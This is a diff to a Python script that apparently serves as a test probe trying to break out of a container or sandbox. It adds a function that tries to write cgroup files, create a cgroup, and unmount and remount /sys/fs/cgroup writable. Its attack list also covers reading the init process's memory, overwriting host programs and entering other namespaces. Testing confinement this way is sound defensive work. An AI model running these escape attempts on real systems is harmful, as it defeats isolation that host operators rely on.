@@ -1,6 +1,6 @@
 # Tries to get out of where it runs. The test puts a line TARGET = {...} before this, which says what there is
 # to be had outside. Prints a line for each attempt: NAME ANSWER, separated by a tab; "done" is a break-out.
-import ctypes, errno, glob, os, resource, socket, stat, tempfile
+import ctypes, errno, glob, itertools, os, resource, socket, stat, tempfile
 
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -126,6 +126,18 @@ def have_the_kernel_run_a_program():
     return first_that_works(ways)
 
 
+def change_its_own_bounds():
+    def files():
+        for folder, _, names in os.walk("/sys/fs/cgroup"):
+            yield from (os.path.join(folder, name) for name in names)
+
+    ways = [lambda path=path: os.open(path, os.O_WRONLY) for path in itertools.islice(files(), 1000)]
+    ways += [lambda: os.mkdir("/sys/fs/cgroup/below"), lambda: must(libc.umount2(b"/sys/fs/cgroup", 2))]
+    # Bound again, for writing.
+    ways += [lambda: must(libc.mount(None, b"/sys/fs/cgroup", None, 0x1020, None))]
+    return first_that_works(ways)
+
+
 def have_other_namespaces():
     return first_that_works(in_a_child(lambda flag=flag: must(libc.unshare(flag))) for flag in (0x10000000, 0x20000, 0x40000000))
 
@@ -177,8 +189,8 @@ def have_another_root():
 ATTACKS = [
     read_the_hosts_file, list_the_state_directory, see_the_server, reach_the_servers_ports,
     reach_an_abstract_socket, hold_what_is_the_parents, overwrite_a_program_of_the_host, read_the_inits_memory,
-    set_the_kernel, mount_something, have_the_kernel_run_a_program, have_other_namespaces,
-    enter_the_inits_namespaces, have_a_device, raise_a_limit, be_somebody_else, have_another_root,
+    set_the_kernel, mount_something, have_the_kernel_run_a_program, change_its_own_bounds,
+    have_other_namespaces, enter_the_inits_namespaces, have_a_device, raise_a_limit, be_somebody_else, have_another_root,
 ]
 for attack in ATTACKS:
     print(attack.__name__, attack(), sep="\t")
